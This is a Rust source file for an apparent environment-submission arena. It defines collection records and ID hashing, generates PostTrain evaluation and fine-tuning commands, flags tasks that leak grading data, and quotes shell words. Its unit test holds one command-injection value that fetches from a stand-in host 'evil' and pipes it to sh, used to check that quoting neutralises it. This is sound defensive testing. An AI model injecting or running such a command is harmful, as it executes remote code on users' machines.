//! A submitted collection (`env-…`) as the API and the pages show it, and the PostTrain block of
//! its submissions-app page: the commands to evaluate and hill-climb on its tasks outside the
//! arena.

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use super::report::{Report, TaskStatus};
use super::request::{RepoType, Source};

/// The track collections are submitted to.
pub const TRACK: &str = "environments";

/// `GET /api/environments`: submitted collections, newest first.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct EnvironmentList {
    pub environments: Vec<EnvironmentRecord>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct EnvironmentRecord {
    /// `env-…`.
    pub environment_id: String,
    pub title: String,
    pub notes: String,
    pub agent_id: Option<String>,
    /// The HF user who submitted it: the collection's author and contact.
    pub author: String,
    /// The open challenge it was submitted for, or the track (`environments`) when submitted to
    /// the track alone.
    pub challenge_id: String,
    /// Where the record is stored: the collections' track.
    pub track: String,
    /// The challenge named at submission (null when the request named the track): the glossary's
    /// "stored under the track, with the challenge kept as `target_challenge_id`". Any validated
    /// collection can run on any open challenge.
    #[serde(default)]
    pub target_challenge_id: Option<String>,
    pub repo_type: String,
    pub repo_id: String,
    /// The revision as asked; `commit` is what it resolved to and what is pinned.
    pub revision: String,
    pub commit: String,
    pub entry_path: String,
    pub valid: bool,
    pub tasks: i64,
    pub eligible_tasks: i64,
    /// The static gates' version that judged it (its validation is re-checked from the pinned
    /// commit when the gates change).
    pub gates_version: String,
    /// The version it was first stored under, once a re-check replaced that judgement.
    pub first_gates_version: Option<String>,
    pub rechecked_at: Option<String>,
    /// Why the re-check under the current version could not be made (it is tried again daily).
    pub recheck_error: Option<String>,
    pub legacy: bool,
    pub created_at: String,
    pub source_url: String,
    /// What validation recorded of each task: `static.task_identity`, task directory → `sha256:`
    /// content hash, so a result names exactly which task content it trained on.
    #[serde(default)]
    pub quality_gates: RecordGates,
}

/// The part of the validation report a stored record carries.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct RecordGates {
    #[serde(rename = "static", default)]
    pub static_: RecordStaticGates,
}

#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct RecordStaticGates {
    pub task_identity: std::collections::BTreeMap<String, String>,
}

impl EnvironmentRecord {
    /// Where the collection is read from, pinned to its commit (`None` for an unknown host type).
    pub fn pinned_source(&self) -> Option<Source> {
        let repo_type = RepoType::parse(&self.repo_type)?;
        let (owner, name) = self.repo_id.split_once('/').unwrap_or((&self.repo_id, ""));
        Some(Source {
            repo_type,
            owner: owner.into(),
            name: name.into(),
            revision: self.commit.clone(),
            entry_path: self.entry_path.clone(),
        })
    }
}

/// The record's id: derived from the key that makes submissions idempotent, so the same author,
/// track, repository, commit and directory always name the same `env-…`.
pub fn environment_id(author_id: &str, source: &Source, commit: &str) -> String {
    let mut h = Sha256::new();
    for part in [author_id, TRACK, source.repo_type.as_str(), &source.repo_id(), commit, &source.entry_path] {
        h.update(part.as_bytes());
        h.update(b"\0");
    }
    let hex = crate::digest::hex(&h.finalize()[..8]);
    format!("env-{hex}")
}

/// A collection's page: its record, the validation stored at submission, and the PostTrain block.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct SubmissionDetail {
    pub environment: EnvironmentRecord,
    pub validation: Report,
    pub posttrain: PostTrain,
}

/// The guide's PostTrain block.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct PostTrain {
    /// The PostTrain version the commands were checked with.
    pub checked_with: String,
    pub commands: Vec<String>,
    /// What the arena can say about cost: it does not run PostTrain's dry runs, so it gives no
    /// figure of its own.
    pub costs: Costs,
    /// Tasks `posttrain env add` marks leaky: the static checks found grading data in the sandbox.
    pub leaky: Vec<String>,
    /// Packages without `oracle/solve.sh`.
    pub no_oracle: usize,
    /// No task has a reference solution: evals run the agent as root.
    pub root: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Costs {
    pub estimated_usd: Option<f64>,
    pub note: String,
}

/// Findings that mean grading data reaches the sandbox.
const LEAK_CODES: &[&str] = &[
    "L-ANSWER-KEY-READ",
    "L-ANSWER-FILE",
    "L-IMAGE-COPIES-SOLUTION",
    "L-IMAGE-COPIES-VERIFIER",
    "R-GRADING-DATA-IN-IMAGE",
    "R-ANSWER-LIKE-FILE",
];

pub fn posttrain(record: &EnvironmentRecord, report: &Report) -> PostTrain {
    let name = record.environment_id.trim_start_matches("env-");
    let env_name = format!("arena-{name}");
    let local = format!("./{env_name}");
    let fetch = match record.repo_type.as_str() {
        "github" => format!(
            "git clone https://github.com/{repo} {local} && git -C {local} checkout {commit}",
            repo = record.repo_id,
            commit = record.commit
        ),
        _ => format!(
            "hf download {repo} --repo-type dataset --revision {commit} --local-dir {local}",
            repo = record.repo_id,
            commit = record.commit
        ),
    };
    let root =
        if record.entry_path.is_empty() { local.clone() } else { format!("{local}/{}", record.entry_path) };
    let tasks_dir =
        if report.submission.present || report.task_list.iter().all(|t| t.dir.starts_with("envs/")) {
            "envs"
        } else {
            "tasks"
        };
    // The entry path is the participant's: quoted, so a directory name cannot add shell commands.
    let tasks_path = sh_quote(&format!("{root}/{tasks_dir}"));
    let leaky: Vec<String> = report
        .task_list
        .iter()
        .filter(|t| t.findings.iter().any(|c| LEAK_CODES.contains(&c.as_str())))
        .map(|t| t.name.clone())
        .collect();
    let no_oracle = report.task_list.iter().filter(|t| !t.has_oracle).count();
    let root_user = !report.task_list.is_empty() && no_oracle == report.task_list.len();
    let set_root = if root_user { " --set sandbox_user=root" } else { "" };
    let eligible = report.task_list.iter().filter(|t| t.status == TaskStatus::Eligible).count();
    let mut commands = vec![fetch];
    if eligible >= 4 {
        // Every fourth task is held out before anything is added, so no attempt at it reaches the SFT data.
        commands.push(format!(
            "mkdir -p {local}-heldout/{tasks_dir} && ls {tasks_path} | awk 'NR % 4 == 0' | xargs -I% mv {tasks_path}/% {local}-heldout/{tasks_dir}/"
        ));
    }
    commands.push(format!("posttrain env add {tasks_path} --name {env_name}"));
    commands.push(format!("posttrain eval MODEL --bench env:{env_name} --limit 4{set_root}"));
    if eligible >= 4 {
        commands.extend([
            format!("posttrain env add {local}-heldout/{tasks_dir} --name {env_name}-heldout"),
            format!("posttrain suites set quick --bench env:{env_name}-heldout"),
            format!("posttrain data from-rollouts --bench env:{env_name}"),
            "posttrain train sft".to_string(),
            format!("posttrain evals compare --bench env:{env_name}-heldout{set_root}"),
        ]);
    }
    PostTrain {
        checked_with: "PostTrain 0.1.11".into(),
        commands,
        costs: Costs {
            estimated_usd: None,
            note: "Not estimated by the arena: it does not run PostTrain's dry runs. Run each eval with `--dry-run` for PostTrain's own estimate; evals and training bill your Fireworks and Daytona accounts, not the arena's budget.".into(),
        },
        leaky,
        no_oracle,
        root: root_user,
    }
}

/// A word for `sh`: as it is when it holds only safe characters, else single-quoted.
pub fn sh_quote(s: &str) -> String {
    if !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/-".contains(&b)) {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

impl RepoType {
    pub fn parse(s: &str) -> Option<RepoType> {
        match s {
            "dataset" => Some(RepoType::Dataset),
            "github" => Some(RepoType::Github),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_words_are_quoted_when_they_need_it() {
        assert_eq!(sh_quote("./arena-1/envs"), "./arena-1/envs");
        assert_eq!(sh_quote("./x;curl evil|sh/envs"), "'./x;curl evil|sh/envs'");
        assert_eq!(sh_quote("it's"), "'it'\\''s'");
    }
}
